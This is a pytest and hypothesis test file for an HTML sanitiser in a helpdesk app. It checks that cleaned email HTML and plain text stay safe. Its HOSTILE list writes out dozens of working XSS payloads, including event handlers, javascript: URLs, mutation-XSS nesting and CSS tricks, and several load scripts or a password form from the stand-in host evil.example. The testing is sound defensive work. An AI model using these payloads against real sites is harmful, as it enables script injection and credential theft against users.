"""Nothing that somebody writes runs, loads, or poses as our page (security.md, X)."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import MessageFactory
from wagtail_helpdesk.sanitise import clean_html, text_to_html
from wagtail_helpdesk.templatetags.helpdesk_messages import message_body

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<img src='//evil.example/a.png'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_blank>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background-color:url(//evil.example)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='color:red;-moz-binding:url(//evil.example)'>x</p>",
    "<p style='color:\\75rl(//evil.example)'>x</p>",
    "<video src='https://evil.example/v'><source onerror=alert(1)></video>",
    "<audio src='https://evil.example/a' onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div id=content class=hd-nav name=cookie>x</div>",
    "<a name=getElementById>x</a>",
    "<table background='https://evil.example/x.png'><td>x</td></table>",
    "<body onload=alert(1)>x",
    "<x onpointerenter=alert(1)>x</x>",
    "<p lang=en\x00 onclick=alert(1)>x</p>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
]
ALLOWED_ATTRIBUTES = {
    *("dir", "lang", "title", "style", "href", "rel", "src", "alt", "width"),
    *("height", "start", "colspan", "rowspan", "scope", "span"),
}
FORBIDDEN_TAGS = {
    *("script", "style", "svg", "math", "iframe", "object", "embed", "form"),
    *("input", "button", "textarea", "link", "meta", "base", "video"),
    *("audio", "source", "template", "noscript", "select", "body", "html"),
    *("head", "x"),
}


class Inspector(HTMLParser):
    """Looks at every tag as a browser's parser would report it."""

    def handle_starttag(self, tag, attrs):
        assert tag not in FORBIDDEN_TAGS
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, name
            if name == "href":
                assert re.match(r"(?:https?://|mailto:|tel:)", value, re.I), value
            if name == "src":
                assert re.match(
                    r"data:image/(?:png|jpe?g|gif|webp);base64,", value, re.I
                )
            if name == "style":
                assert not re.search(
                    r"url|expression|position|@|\\|binding", value, re.I
                )


def inspect(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("styles", [False, True])
@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_neutral(html, styles):
    cleaned = clean_html(html, styles=styles)

    inspect(cleaned)
    assert clean_html(cleaned, styles=styles) == cleaned, "Cleaning twice adds nothing"


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_text_is_shown_as_text(html):
    shown = text_to_html(html)

    inspect(shown)
    assert "<script" not in shown.lower()


@given(st.text(max_size=300))
def test_any_text_can_be_cleaned_and_shown(text):
    inspect(clean_html(text))
    inspect(clean_html(text, styles=True))
    inspect(text_to_html(text))


@given(st.lists(st.sampled_from([*HOSTILE, "text", "<b>", "</b>", "'", '"', ">"])))
def test_hostile_pieces_stay_neutral_together(pieces):
    inspect(clean_html("".join(pieces), styles=True))


def test_the_look_of_a_mail_stays():
    html = (
        '<h2 dir="rtl" lang="ar">مرحبا</h2><p>A <b>bold</b> <a href="https://a.example/'
        '?a=1&amp;b=2">link</a></p><ol start="3"><li>three</li></ol>'
        '<table><tr><td colspan="2">cell</td></tr></table>'
    )
    cleaned = clean_html(html)

    assert '<h2 dir="rtl" lang="ar">مرحبا</h2>' in cleaned
    assert 'href="https://a.example/?a=1&amp;b=2"' in cleaned
    assert 'rel="nofollow noopener noreferrer ugc"' in cleaned
    assert '<ol start="3">' in cleaned
    assert '<td colspan="2">' in cleaned


def test_style_attributes_stay_only_where_they_are_asked_for():
    html = '<p style="color: #f00; position: fixed; text-align: center">x</p>'

    assert clean_html(html) == "<p>x</p>"
    assert (
        clean_html(html, styles=True)
        == '<p style="color: #f00; text-align: center">x</p>'
    )


def test_an_image_inside_the_mail_stays_and_a_remote_one_leaves_its_description():
    inside = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="A lamp">'

    assert "data:image/png" in clean_html(inside)
    assert clean_html('<img src="https://x.example/p.gif" alt="A lamp">') == (
        '<img alt="A lamp">'
    )


def test_text_inside_a_form_is_kept():
    assert "Please help" in clean_html("<form><p>Please help</p></form>")


def test_addresses_become_links_and_their_punctuation_does_not():
    shown = text_to_html("See https://a.example/x_(y)?q=1&r=2, (https://b.example).")

    assert '<a href="https://a.example/x_(y)?q=1&amp;r=2" ' in shown
    assert ">https://b.example</a>)." in shown


@pytest.mark.parametrize(
    "text", ["javascript:alert(1)", "www.a.example", "ftp://a.example", "https://"]
)
def test_only_web_addresses_become_links(text):
    assert "<a" not in text_to_html(text)


def test_line_breaks_and_paragraphs_are_kept():
    assert text_to_html("one\r\ntwo\n\nthree") == (
        '<p dir="auto">one<br>two</p><p dir="auto">three</p>'
    )


def test_longer_quotes_are_folded_and_nothing_of_them_is_lost():
    shown = text_to_html("Yes.\n> one\n> two\n> three\n> four\nBye.")

    assert "<details" in shown
    for word in ("Yes.", "one", "two", "three", "four", "Bye."):
        assert word in shown


def test_short_quotes_stand_open_and_mails_fold_nothing():
    assert "<details" not in text_to_html("> one\n> two")
    assert "<details" not in text_to_html("> a\n> b\n> c\n> d\n> e", fold=False)


def test_an_address_cannot_be_turned_around():
    assert "\u202e" not in text_to_html("https://a.example/\u202egpj.exe")


def test_two_megabytes_take_moderate_time():
    shown = text_to_html("https://a.example/" + "a)" * 1_500_000)

    assert len(shown) < 3_000_000


@pytest.mark.django_db
def test_a_message_shows_its_html_cleaned_else_its_text():
    html = MessageFactory(body_html="<p onclick=x>Hi <script>1</script></p>")
    text = MessageFactory(body_html="", body_text="<b>Hi</b>")

    assert message_body(html) == "<p>Hi </p>"
    assert message_body(text) == '<p dir="auto">&lt;b&gt;Hi&lt;/b&gt;</p>'
